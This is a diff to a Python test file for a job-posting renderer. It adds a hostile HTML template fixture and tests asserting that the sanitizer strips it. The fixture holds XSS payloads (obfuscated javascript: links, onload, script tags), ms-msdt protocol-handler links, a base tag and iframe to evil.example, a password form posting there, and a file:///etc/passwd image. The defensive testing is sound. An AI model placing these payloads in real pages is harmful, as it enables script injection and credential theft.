@@ -318,6 +318,79 @@ def test_the_built_in_templates_link_apply_url_and_email(run, setup):
     assert set(html_links(html).hrefs) == set(docx_targets(docx)) == {"mailto:karriere@lindenhof-logistik.example"}
 
 
+# --- a catalog's own page template ---------------------------------------------------------
+
+PAGE = """<!DOCTYPE html>
+<html lang="{{ language }}">
+<head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=ms-msdt:/id PCWDiagnostic">
+<title>{{ title }}</title>
+<script type="application/ld+json">{{ jsonld | tojson }}</script>
+<script type="text/javascript" type="application/ld+json">alert(1)</script>
+<script>location = 'ms-msdt:/id PCWDiagnostic'</script>
+<base href="https://evil.example/">
+</head>
+<body onload="alert(1)">
+<a href="ms-msdt:/id%20PCWDiagnostic">Verify your account</a>
+<a href="&#106;avascript:alert(1)">Entity</a>
+<a href="java&#9;script:alert(1)">Tab</a>
+<a href="mailto:jobs@careers.example">Mail us</a>
+<img src="file:///etc/passwd" alt="Logo">
+<svg><a href="javascript:alert(1)"><text>svg</text></a></svg>
+<iframe src="https://evil.example/"></iframe>
+<form action="https://evil.example/"><input name="password"><button onclick="send()">Send</button></form>
+<!--[if IE]><script>alert(1)</script><![endif]-->
+<p title="</p><script>alert(1)</script>">para</p>
+{{ header_html }}
+{% for section in sections_html %}<section>{{ section }}</section>{% endfor %}
+</body></html>
+"""
+
+
+def page_warning(what: str, hint: str) -> str:
+    return f"warning: templates/posting.html.j2: {what} in posting AIMLAM.GEN.P4 for northwind is dropped ({hint})"
+
+
+def test_a_catalog_page_template_keeps_only_safe_links_and_no_scripts(run, setup):
+    root, sentinel = setup
+    write(root / "templates" / "posting.html.j2", PAGE)
+    before = snapshot(sentinel)
+    result, html, docx = render_all(run, root)
+    assert result.code == 0
+    page = html_links(html)
+    assert set(page.hrefs) == {APPLY, "mailto:jobs@careers.example"}
+    assert page.tags.count("script") == 1
+    assert not {"iframe", "form", "input", "button", "svg", "base"} & set(page.tags)
+    assert not [a for a in page.attrs if a[1].startswith("on") or a[1] == "http-equiv"]
+    text = html.read_text(encoding="utf-8")
+    assert "Verify your account" in text and "alert(1)</script>" not in text
+    json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>', text, re.S).group(1))
+    element = "a posting page carries no scripts, frames, forms or embedded objects"
+    attribute = "a posting page carries no event handlers or other active attributes"
+    link = "postings link only to https, http and mailto addresses"
+    assert link_warnings(result.err) == [
+        page_warning("the http-equiv= attribute of a <meta>", attribute),
+        page_warning("a <script> element", element),
+        page_warning("a <base> element", element),
+        page_warning("the onload= attribute of a <body>", attribute),
+        page_warning("an <a href> to ms-msdt:", link),
+        page_warning("an <a href> to javascript:", link),     # the entity and the tab spelling alike
+        page_warning("an <img src> to file:", link),
+        page_warning("a <svg> element", element),
+        page_warning("an <iframe> element", element),
+        page_warning("a <form> element", element),
+        page_warning("an <input> element", element),
+        page_warning("a <button> element", element),
+    ]
+    assert snapshot(sentinel) == before
+
+
+def test_the_same_hostile_page_gives_the_same_bytes(run, setup):
+    root, _ = setup
+    write(root / "templates" / "posting.html.j2", PAGE)
+    first = render_all(run, root)[1].read_bytes()
+    assert render_all(run, root)[1].read_bytes() == first
+
+
 # --- the rules themselves --------------------------------------------------------------------
 
 @pytest.mark.parametrize("address, problem", [
